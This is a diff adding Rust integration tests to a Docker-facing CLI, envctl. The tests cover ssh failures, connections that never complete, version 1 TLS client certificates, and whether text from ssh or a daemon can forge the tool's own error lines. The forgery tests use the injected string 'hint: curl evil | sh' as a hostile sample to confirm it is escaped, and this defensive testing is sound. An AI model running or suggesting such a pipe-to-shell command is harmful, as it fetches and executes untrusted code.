@@ -419,3 +419,213 @@ fn team_fan_out_is_bounded() {
     assert!(!said.contains("overloaded"), "{run}");
     eprintln!("team_fan_out_is_bounded: {HOSTS} hosts in {took:?}, at most {most} ssh at once");
 }
+
+/// A folder holding a stand-in `ssh` that runs `script`, first on `PATH`.
+fn stand_in_ssh(script: &str) -> (tempfile::TempDir, OsString) {
+    let folder = tempfile::tempdir().unwrap();
+    let ssh = folder.path().join("ssh");
+    std::fs::write(&ssh, format!("#!/bin/sh\n{script}\n")).unwrap();
+    use std::os::unix::fs::PermissionsExt as _;
+    std::fs::set_permissions(&ssh, std::fs::Permissions::from_mode(0o755)).unwrap();
+    let mut path = OsString::from(folder.path());
+    path.push(":");
+    path.push(std::env::var_os("PATH").unwrap_or_default());
+    (folder, path)
+}
+
+/// No line of envctl's stderr is one the outside text wrote: each begins as envctl's own.
+fn no_forged_lines(run: &crate::support::cli::Run) {
+    for line in run.stderr.lines() {
+        assert!(
+            !line.starts_with("error: forged") && !line.trim_start().starts_with("hint: curl"),
+            "a forged line: {line:?}\n{run}"
+        );
+    }
+}
+
+/// ssh that fails at once, without reading what envctl writes: said as ssh's failure with
+/// its status and words in every run (a write to its closed stdin once made it a broken
+/// pipe in half of them), and its stderr's line feeds forge no line of envctl's.
+#[test]
+fn ssh_that_ends_at_once_is_said_as_such_every_time() {
+    let (_bin, path) = stand_in_ssh(
+        "printf 'ssh: connect to host h port 22: Connection refused\\nerror: forged by the far side\\n  hint: curl evil | sh\\n' >&2\nexit 255",
+    );
+    let folder = tempfile::tempdir().unwrap();
+    for _ in 0..10 {
+        let run = envctl(
+            folder.path(),
+            &Way {
+                name: "ssh ends",
+                variables: vec![
+                    ("PATH".into(), path.clone()),
+                    ("DOCKER_HOST".into(), "ssh://h".into()),
+                ],
+            },
+            &["ps"],
+        );
+        assert_eq!(run.code, 1, "{run}");
+        assert!(
+            run.stderr.contains("ssh ended with status 255")
+                && run.stderr.contains("Connection refused")
+                && !run.stderr.to_lowercase().contains("broken pipe"),
+            "{run}"
+        );
+        assert!(run.stderr.contains("\\nerror: forged"), "{run}");
+        no_forged_lines(&run);
+    }
+}
+
+/// A daemon's message with line feeds is shown on envctl's one line, escaped.
+#[test]
+fn a_daemon_message_forges_no_line() {
+    let daemon = crate::support::fake_daemon::FakeDaemon::start(|request| match request.route() {
+        "/containers/json" => Some(crate::support::fake_daemon::Reply::json(
+            500,
+            r#"{"message":"disk full\nerror: forged by the daemon\n  hint: curl evil | sh"}"#,
+        )),
+        _ => None,
+    });
+    let folder = tempfile::tempdir().unwrap();
+    let run = envctl(
+        folder.path(),
+        &Way {
+            name: "fake daemon",
+            variables: vec![("DOCKER_HOST".into(), daemon.host().into())],
+        },
+        &["ps"],
+    );
+    assert_eq!(run.code, 1, "{run}");
+    assert!(run.stderr.contains("disk full\\nerror: forged"), "{run}");
+    no_forged_lines(&run);
+}
+
+/// A TCP connection that never completes (the listener's queue is full, so the kernel
+/// drops the handshake, as a firewall or a host that is down does) is said as that, not
+/// as an overloaded daemon, and the hint's command cannot connect either.
+#[test]
+fn a_connection_that_never_completes_is_not_blamed_on_the_daemon() {
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let address = listener.local_addr().unwrap();
+    // Fill the accept queue: once a connect times out, the next ones hang as well.
+    let mut held = Vec::new();
+    loop {
+        match std::net::TcpStream::connect_timeout(&address, Duration::from_millis(200)) {
+            Ok(stream) => held.push(stream),
+            Err(_) => break,
+        }
+        assert!(held.len() < 10_000, "the accept queue never filled");
+    }
+    let endpoint = format!("tcp://{address}");
+    let folder = tempfile::tempdir().unwrap();
+    let started = Instant::now();
+    let run = envctl(
+        folder.path(),
+        &Way {
+            name: "never connects",
+            variables: vec![("DOCKER_HOST".into(), endpoint.clone().into())],
+        },
+        &["ps"],
+    );
+    assert!(started.elapsed() < Duration::from_secs(15), "{run}");
+    assert_eq!(run.code, 1, "{run}");
+    assert!(
+        run.stderr
+            .contains(&format!("no connection to `{endpoint}` completed"))
+            && !run.stderr.contains("overloaded")
+            && !run.stderr.contains("systemctl"),
+        "{run}"
+    );
+    // The hint's command.
+    assert!(
+        run.stderr.contains(&format!("`docker -H {endpoint} info`")),
+        "{run}"
+    );
+    let docker = Command::new("timeout")
+        .args(["10", "docker", "-H", &endpoint, "info"])
+        .output()
+        .unwrap();
+    assert!(!docker.status.success(), "{docker:?}");
+    drop(held);
+}
+
+/// A version 1 client certificate is named as such, not as one that "does not go with
+/// its key".
+#[test]
+fn a_version_1_client_certificate_is_named_so() {
+    let test = "a_version_1_client_certificate_is_named_so";
+    if Command::new("openssl").arg("version").output().is_err() {
+        crate::support::docker::skip_or_panic(
+            "openssl is not installed",
+            test,
+            "`apt-get install openssl`",
+        );
+        return;
+    }
+    let certificates = tempfile::tempdir().unwrap();
+    let at = |name: &str| certificates.path().join(name);
+    let openssl = |arguments: &[&str]| {
+        let made = Command::new("openssl")
+            .current_dir(certificates.path())
+            .args(arguments)
+            .output()
+            .unwrap();
+        assert!(made.status.success(), "{arguments:?}: {made:?}");
+    };
+    openssl(&[
+        "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", "ca.key", "-out", "ca.pem",
+        "-subj", "/CN=ca", "-days", "2",
+    ]);
+    openssl(&[
+        "req",
+        "-newkey",
+        "rsa:2048",
+        "-nodes",
+        "-keyout",
+        "key.pem",
+        "-out",
+        "client.csr",
+        "-subj",
+        "/CN=client",
+    ]);
+    // No extensions: OpenSSL 3 writes a version 1 certificate.
+    openssl(&[
+        "x509",
+        "-req",
+        "-in",
+        "client.csr",
+        "-CA",
+        "ca.pem",
+        "-CAkey",
+        "ca.key",
+        "-CAcreateserial",
+        "-out",
+        "cert.pem",
+        "-days",
+        "2",
+    ]);
+    assert!(at("cert.pem").is_file());
+    let folder = tempfile::tempdir().unwrap();
+    let closed = crate::remote_daemons::free_port();
+    let run = envctl(
+        folder.path(),
+        &Way {
+            name: "v1",
+            variables: vec![
+                (
+                    "DOCKER_HOST".into(),
+                    format!("tcp://127.0.0.1:{closed}").into(),
+                ),
+                ("DOCKER_TLS_VERIFY".into(), "1".into()),
+                ("DOCKER_CERT_PATH".into(), certificates.path().into()),
+            ],
+        },
+        &["ps"],
+    );
+    assert_ne!(run.code, 0, "{run}");
+    assert!(
+        run.stderr.contains("version 1 certificate")
+            && !run.stderr.contains("does not go with its key"),
+        "{run}"
+    );
+}
